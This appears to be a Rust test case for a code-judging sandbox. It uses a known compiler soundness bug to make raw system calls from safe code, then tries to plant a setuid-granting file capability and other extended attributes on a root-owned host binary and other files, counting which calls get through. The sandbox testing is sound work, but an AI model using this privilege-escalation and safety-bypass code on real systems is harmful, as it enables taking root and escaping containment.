// expect: accepted
// Plants extended attributes (a file capability granting setuid among them) on a root-owned
// binary, a file of the judge's own user and its own binary, removes one, sets a file flag.
// ---- Raw system calls from safe code: the same block in every program that makes them ----
// rust-lang/rust#25860: `stretch_with`'s signature implies `'short: 'long`; coerced to a fn
// pointer that is higher-ranked over the borrow, with the witness's type left to inference,
// it loses that bound, so `stretch` turns any borrow into one of any lifetime.
static WITNESS: &&() = &&();
fn stretch_with<'long, 'short, T: ?Sized>(_: &'long &'short (), v: &'short mut T) -> &'long mut T {
    v
}
fn stretch<'a, 'b, T: ?Sized>(v: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = stretch_with;
    f(WITNESS, v)
}
// A `transmute` between types of one size: keep a stretched reference into one variant's
// box, overwrite the enum with the other variant, and take the new box through it.
enum Slot<A, B> {
    Old(Option<Box<A>>),
    New(Option<Box<B>>),
}
fn reinterpret<A, B>(a: A) -> B {
    assert_eq!(std::mem::size_of::<A>(), std::mem::size_of::<B>());
    let mut slot = Slot::<A, B>::New(None);
    let slot = std::hint::black_box(&mut slot);
    let Slot::New(new) = slot else { unreachable!() };
    let new = stretch(new);
    *slot = Slot::Old(Some(Box::new(a)));
    *std::hint::black_box(new).take().unwrap()
}
// Declaring libc's `syscall` is safe; the fn item coerces to an `unsafe` fn pointer, which
// `reinterpret` turns into a safe one.
extern "C" {
    fn syscall(n: i64, a: i64, b: i64, c: i64, d: i64, e: i64, f: i64) -> i64;
}
type Unsafe7 = unsafe extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64;
type Safe7 = extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64;
/// System call `n` (x86_64 numbers) with up to six arguments: its result, or the errno.
fn sys(n: i64, args: &[i64]) -> Result<i64, i32> {
    let mut a = [0i64; 6];
    a[..args.len()].copy_from_slice(args);
    let declared: Unsafe7 = syscall;
    let call: Safe7 = reinterpret(declared);
    match call(n, a[0], a[1], a[2], a[3], a[4], a[5]) {
        -1 => Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0)),
        r => Ok(r),
    }
}
/// The address of `v`, as a system call argument.
fn addr<T: ?Sized>(v: &T) -> i64 {
    v as *const T as *const u8 as i64
}
/// The address of `v`, for a call that writes there.
fn addr_mut<T: ?Sized>(v: &mut T) -> i64 {
    v as *mut T as *mut u8 as i64
}
/// Whether raw calls reach the kernel (getpid is on any allowlist: `abort` needs it). A
/// program whose calls do not is no test of the sandbox, and says so with a wrong answer.
fn raw_calls_work() -> bool {
    sys(39, &[]) == Ok(std::process::id() as i64)
}
// ---- end of the block ----

const AT_FDCWD: i64 = -100;

pub fn probe(x: i64) -> i64 {
    use std::os::unix::io::AsRawFd;
    if !raw_calls_work() {
        eprintln!("raw system calls do not reach the kernel");
        return x + 1000;
    }
    // vfs_cap_data, revision 2: effective, with CAP_DAC_OVERRIDE, CAP_SETGID and CAP_SETUID
    // permitted; on a binary, it makes whoever runs it root in all but name.
    let capability: [u32; 5] = [0x0200_0001, (1 << 1) | (1 << 6) | (1 << 7), 0, 0, 0];
    let value = b"planted";
    let names: [&[u8]; 3] = [
        b"user.kata-planted\0",
        b"trusted.kata-planted\0",
        b"security.capability\0",
    ];
    let planted = |name: &[u8]| -> (i64, i64) {
        if name.starts_with(b"security.") {
            (addr(&capability), 20)
        } else {
            (addr(value), value.len() as i64)
        }
    };
    let mut changed = 0;
    let mut tally = |what: &str, r: Result<i64, i32>| {
        eprintln!("{what}: {r:?}");
        changed += r.is_ok() as i64;
    };
    for target in [
        "{{HOST_FILE}}",
        "{{OWN_FILE}}",
        "/proc/self/exe",
    ] {
        let path = std::ffi::CString::new(target).unwrap();
        let p = addr(path.as_bytes_with_nul());
        for name in names {
            let (v, len) = planted(name);
            tally("setxattr", sys(188, &[p, addr(name), v, len, 0]));
            tally("lsetxattr", sys(189, &[p, addr(name), v, len, 0]));
            // setxattrat (Linux 6.13): struct xattr_args { value, size, flags }.
            let args = [v as u64, len as u64];
            tally(
                "setxattrat",
                sys(463, &[AT_FDCWD, p, 0, addr(name), addr(&args), 16]),
            );
        }
        // The attribute the test put there.
        let keep = b"user.kata\0";
        tally("removexattr", sys(197, &[p, addr(keep)]));
        tally("lremovexattr", sys(198, &[p, addr(keep)]));
        // file_setattr (Linux 6.17), struct file_attr: FS_XFLAG_NODUMP, as `chattr +d`.
        let attr = [0x80u64, 0, 0];
        tally("file_setattr", sys(469, &[AT_FDCWD, p, addr(&attr), 24, 0]));
        if let Ok(f) = std::fs::File::open(target) {
            let fd = f.as_raw_fd() as i64;
            for name in names {
                let (v, len) = planted(name);
                tally("fsetxattr", sys(190, &[fd, addr(name), v, len, 0]));
            }
            tally("fremovexattr", sys(199, &[fd, addr(keep)]));
        }
    }
    x + changed
}
